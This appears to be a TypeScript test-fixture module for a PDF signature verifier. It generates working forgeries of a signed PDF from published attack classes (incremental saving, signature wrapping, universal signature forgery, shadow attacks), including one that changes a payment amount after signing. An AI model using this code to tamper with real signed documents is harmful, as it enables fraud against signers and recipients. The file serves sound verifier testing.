import { memoryByteSource } from "../../shared/pdf/byte-source.js";
import { PdfRef } from "../../shared/pdf/objects.js";
import { catalogOf, findPage } from "../../shared/pdf/read/page-tree.js";
import { PdfDocumentReader } from "../../shared/pdf/read/pdf-document-reader.js";
import { signedSignatureFields } from "../../shared/pdf/read/form-fields.js";
import { classicPdf, latin1Bytes } from "./hand-built-pdf.js";

/**
 * The attack classes of the "PDF insecurity" research (Mladenov, Mainka, Meyer zu Selhausen,
 * Grothe, Schwenk: incremental saving ISA, signature wrapping SWA, universal signature
 * forgery USF — NDSS 2019 — and shadow attacks hide / replace / hide-and-replace — NDSS 2021),
 * built from a file kyso signed. Each attack is the signed bytes, changed in place or with an
 * incremental update appended by hand, so that every fixture breaks exactly one thing.
 */
export interface AttackFixture {
  name: string;
  attackClass: "ISA" | "SWA" | "USF" | "shadow-hide" | "shadow-replace" | "shadow-hide-and-replace" | "integrity";
  bytes: Uint8Array;
}

const latin1 = (bytes: Uint8Array): string => Array.from(bytes, (b) => String.fromCharCode(b)).join("");
const bytesOf = (text: string): Uint8Array => Uint8Array.from(text, (c) => c.charCodeAt(0) & 0xff);

interface SignedLayout {
  text: string;
  size: number;
  rootNumber: number;
  pageNumber: number;
  signatureNumber: number;
  byteRange: [number, number, number, number];
  prev: number;
}

async function layoutOf(signed: Uint8Array): Promise<SignedLayout> {
  const reader = await PdfDocumentReader.open(memoryByteSource(signed));
  const catalog = await catalogOf(reader);
  const page = await findPage(reader, 0);
  const [field] = await signedSignatureFields(reader);
  if (!field?.signatureRef) throw new Error("the attack corpus needs a signed file");
  const text = latin1(signed);
  const byteRange = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(text)!.slice(1).map(Number) as SignedLayout["byteRange"];
  return {
    text, size: reader.size, rootNumber: catalog.ref.objectNumber, pageNumber: page.ref.objectNumber,
    signatureNumber: field.signatureRef.objectNumber, byteRange, prev: reader.lastXrefOffset,
  };
}

/** One entry of an appended update: an object written in it, a free entry, or an entry pointing back at bytes already in the file. */
type UpdateEntry = { number: number; body: string } | { number: number; free: true } | { number: number; writtenAt: number };

/** ISO 32000-2 §7.5.6: an incremental update with a classic xref table, one subsection per object. */
function appendUpdate(layout: SignedLayout, objects: UpdateEntry[], options: { rootNumber?: number; prev?: number } = {}): Uint8Array {
  let text = layout.text.endsWith("\n") ? layout.text : `${layout.text}\n`;
  const rows = objects.map((object) => {
    if ("free" in object) return "0000000000 00001 f ";
    if ("writtenAt" in object) return `${String(object.writtenAt).padStart(10, "0")} 00000 n `;
    const at = text.length;
    text += `${object.number} 0 obj\n${object.body}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n `;
  });
  const xrefAt = text.length;
  const subsections = objects.map((o, i) => `${o.number} 1\n${rows[i]}\n`).join("");
  const size = Math.max(layout.size, ...objects.map((o) => o.number + 1));
  text += `xref\n0 1\n0000000000 65535 f \n${subsections}trailer\n<< /Size ${size} /Root ${options.rootNumber ?? layout.rootNumber} 0 R /Prev ${options.prev ?? layout.prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return bytesOf(text);
}

/** The body of an object as last written in the file. */
function lastBodyOf(layout: SignedLayout, objectNumber: number): string {
  const at = layout.text.lastIndexOf(`\n${objectNumber} 0 obj`) + `\n${objectNumber} 0 obj`.length;
  return layout.text.slice(at, layout.text.indexOf("endobj", at)).trim();
}

/** A page body with one more annotation in its inline /Annots, every other entry unchanged. */
function withAnnotation(pageBody: string, annotationNumber: number): string {
  return /\/Annots\s*\[/.test(pageBody) ? pageBody.replace(/\/Annots\s*\[([^\]]*)\]/, (_m, items: string) => `/Annots [${items} ${annotationNumber} 0 R]`) : pageBody.replace(/>>\s*$/, `/Annots [${annotationNumber} 0 R] >>`);
}

const OVERLAY_ANNOTATION = "<< /Type /Annot /Subtype /Square /Rect [0 0 595 842] /IC [1 1 1] /C [1 1 1] >>";

function contentStream(drawing: string): string {
  return `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`;
}

const REPLACED_TEXT = "BT /F1 24 Tf 72 700 Td (SO TIEN: 999.000.000 VND) Tj ET";

/** The file cut before its last `startxref`: readers following the chain use the previous revision's. */
function withoutLastStartxref(bytes: Uint8Array): Uint8Array {
  return bytes.subarray(0, latin1(bytes).lastIndexOf("startxref"));
}

/** Overwrites bytes in place (same length), e.g. one digit of the ByteRange. */
function patched(signed: Uint8Array, at: number, replacement: string): Uint8Array {
  const copy = new Uint8Array(signed);
  copy.set(bytesOf(replacement), at);
  return copy;
}

export async function buildAttackCorpus(signed: Uint8Array): Promise<AttackFixture[]> {
  const layout = await layoutOf(signed);
  const { size, pageNumber, rootNumber, signatureNumber, byteRange } = layout;
  const signatureDict = (entries: string) => `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${entries} >>`;
  const signedContents = layout.text.slice(byteRange[1], byteRange[2]);
  const rangeText = `/ByteRange [${byteRange.join(" ")}]`;
  const rootReader = await PdfDocumentReader.open(memoryByteSource(signed));
  const catalog = (await catalogOf(rootReader)).dict;
  const pagesNumber = (catalog.get("Pages") as PdfRef).objectNumber;
  const acroForm = catalog.get("AcroForm");
  const acroFormText = acroForm instanceof PdfRef ? `/AcroForm ${acroForm.objectNumber} 0 R` : "";
  const catalogBody = (extra: string) => `<< /Type /Catalog /Pages ${pagesNumber} 0 R ${acroFormText} ${extra} >>`;
  const digitAt = layout.text.indexOf(rangeText) + rangeText.length - 2;
  const hexStart = byteRange[1] + 1;
  // The page as last written, with one more annotation: every other entry unchanged.
  const pageBody = lastBodyOf(layout, pageNumber);
  const withContents = (contents: string) => pageBody.replace(/\/Contents\s*(\d+\s+\d+\s+R|\[[^\]]*\])/, `/Contents ${contents}`);
  const annotatedPage = withAnnotation(pageBody, size);
  // The update that signed: its entries, and the section before it.
  const [signingSection, unsignedSection] = rootReader.sections;
  const signedEntries = [...signingSection!.entries].flatMap(([number, entry]) => (entry.kind === "in-file" && number !== pageNumber ? [{ number, writtenAt: entry.offset }] : []));
  const pageContents = (await findPage(rootReader, 0)).dict.get("Contents");
  const contentsNumber = ((Array.isArray(pageContents) ? pageContents[0] : pageContents) as PdfRef).objectNumber;
  const fields = await rootReader.resolve((await rootReader.resolveDict(acroForm))?.get("Fields"));
  const fieldsText = `[${(Array.isArray(fields) ? fields : []).map((f) => `${(f as PdfRef).objectNumber} 0 R`).join(" ")}]`;
  const xfa = "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><draw><value><text>SO TIEN: 999.000.000 VND</text></value></draw></subform></template></xdp:xdp>";
  return [
    { name: "ISA: the last update's /Prev skips the signed revision, reusing its objects but bringing back the unsigned page", attackClass: "ISA", bytes: appendUpdate(layout, signedEntries, { prev: unsignedSection!.offset }) },
    { name: "shadow hide: the page's content stream freed in a later update (it now reads as null)", attackClass: "shadow-hide", bytes: appendUpdate(layout, [{ number: contentsNumber, free: true }]) },
    { name: "shadow replace: the catalog's /AcroForm swapped for a new form carrying /XFA", attackClass: "shadow-replace", bytes: appendUpdate(layout, [{ number: size, body: `<< /Fields ${fieldsText} /SigFlags 3 /XFA ${size + 1} 0 R >>` }, { number: size + 1, body: contentStream(xfa) }, { number: rootNumber, body: catalogBody("").replace(acroFormText, `/AcroForm ${size} 0 R`) }]) },
    { name: "ISA: page content redefined in an update appended without its startxref (only a viewer repairing the file sees it)", attackClass: "ISA", bytes: withoutLastStartxref(appendUpdate(layout, [{ number: size, body: contentStream(REPLACED_TEXT) }, { number: pageNumber, body: withContents(`${size} 0 R`) }])) },
    { name: "ISA: page content redefined in a later update", attackClass: "ISA", bytes: appendUpdate(layout, [{ number: size, body: contentStream(REPLACED_TEXT) }, { number: pageNumber, body: withContents(`${size} 0 R`) }]) },
    { name: "shadow replace: a new content stream overlaid by redefining the page's /Contents array", attackClass: "shadow-replace", bytes: appendUpdate(layout, [{ number: size, body: contentStream(`1 1 1 rg 0 0 595 842 re f ${REPLACED_TEXT}`) }, { number: pageNumber, body: withContents(`[${size} 0 R]`) }]) },
    { name: "shadow hide-and-replace: the trailer points at a new catalog with another page tree", attackClass: "shadow-hide-and-replace", bytes: appendUpdate(layout, [{ number: size, body: catalogBody("").replace(`/Pages ${pagesNumber} 0 R`, `/Pages ${size + 1} 0 R`) }, { number: size + 1, body: `<< /Type /Pages /Kids [${size + 2} 0 R] /Count 1 >>` }, { number: size + 2, body: `<< /Type /Page /Parent ${size + 1} 0 R /MediaBox [0 0 595 842] /Contents ${size + 3} 0 R >>` }, { number: size + 3, body: contentStream(REPLACED_TEXT) }], { rootNumber: size }) },
    { name: "shadow hide: optional content added to the catalog after signing", attackClass: "shadow-hide", bytes: appendUpdate(layout, [{ number: size, body: "<< /Type /OCG /Name (an) >>" }, { number: rootNumber, body: catalogBody(`/OCProperties << /OCGs [${size} 0 R] /D << /OFF [${size} 0 R] >> >>`) }]) },
    { name: "SWA: the signature dictionary redefined later with the same ByteRange and /Contents", attackClass: "SWA", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(`${rangeText} /Contents ${signedContents}`) }]) },
    { name: "SWA: ByteRange digits changed in place so the signed bytes end elsewhere", attackClass: "SWA", bytes: patched(signed, digitAt, String((Number(layout.text[digitAt]) + 1) % 10)) },
    { name: "USF: /Contents missing", attackClass: "USF", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(rangeText) }]) },
    { name: "USF: /Contents empty", attackClass: "USF", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(`${rangeText} /Contents <>`) }]) },
    { name: "USF: /ByteRange null", attackClass: "USF", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(`/ByteRange null /Contents ${signedContents}`) }]) },
    { name: "USF: /ByteRange missing", attackClass: "USF", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(`/Contents ${signedContents}`) }]) },
    { name: "USF: /ByteRange [0 0 0 0]", attackClass: "USF", bytes: appendUpdate(layout, [{ number: signatureNumber, body: signatureDict(`/ByteRange [0 0 0 0] /Contents ${signedContents}`) }]) },
    { name: "USF: /Contents overwritten with zeros in place", attackClass: "USF", bytes: patched(signed, hexStart, "0".repeat(byteRange[2] - byteRange[1] - 2)) },
    { name: "annotation overlay added after signing (allowed for an approval signature, reported)", attackClass: "shadow-hide", bytes: appendUpdate(layout, [{ number: size, body: OVERLAY_ANNOTATION }, { number: pageNumber, body: annotatedPage }]) },
    { name: "signed bytes changed in place (the digest no longer matches)", attackClass: "integrity", bytes: patched(signed, 11, "Q") },
  ];
}

/** The objects a prepared document leaves undefined, and which an attacker defines once it is signed. */
const PREPARED = { contents: 6, page: 7 };

/**
 * An unsigned document prepared by the attacker before the victim signs it (the shadow attacks'
 * model): its page's /Contents array and its page tree's /Kids each end with a reference to an
 * object the file does not define, which reads as null (ISO 32000-2 §7.3.10) and shows nothing.
 */
export function preparedDocument(): Uint8Array {
  const drawing = "BT /F1 24 Tf 72 700 Td (SO TIEN: 1.000.000 VND) Tj ET";
  return latin1Bytes(classicPdf({
    objects: [
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Kids [3 0 R ${PREPARED.page} 0 R] /Count 2 >>`,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R ${PREPARED.contents} 0 R] >>`,
      contentStream(drawing),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
    ],
    trailer: "/Size 8 /Root 1 0 R",
  }));
}

/** The prepared document, signed, with the objects it named defined in a later update: no signed object is redefined. */
export async function buildPreparedReferenceAttacks(signed: Uint8Array): Promise<AttackFixture[]> {
  const layout = await layoutOf(signed);
  return [
    { name: "shadow replace: a content stream defined after signing at the number the page's /Contents array already named", attackClass: "shadow-replace", bytes: appendUpdate(layout, [{ number: PREPARED.contents, body: contentStream(`1 1 1 rg 0 0 595 842 re f ${REPLACED_TEXT}`) }]) },
    { name: "shadow replace: the page redefined with an added annotation (allowed) while the content stream its signed /Contents named is defined", attackClass: "shadow-replace", bytes: appendUpdate(layout, [{ number: PREPARED.contents, body: contentStream(REPLACED_TEXT) }, { number: layout.size, body: OVERLAY_ANNOTATION.replace("/IC [1 1 1] /C [1 1 1]", "/C [0 0 0]") }, { number: layout.pageNumber, body: withAnnotation(lastBodyOf(layout, layout.pageNumber), layout.size) }]) },
    { name: "ISA: a new page defined after signing at the number the page tree's /Kids already named", attackClass: "ISA", bytes: appendUpdate(layout, [{ number: PREPARED.page, body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents ${layout.size} 0 R >>` }, { number: layout.size, body: contentStream(REPLACED_TEXT) }]) },
  ];
}
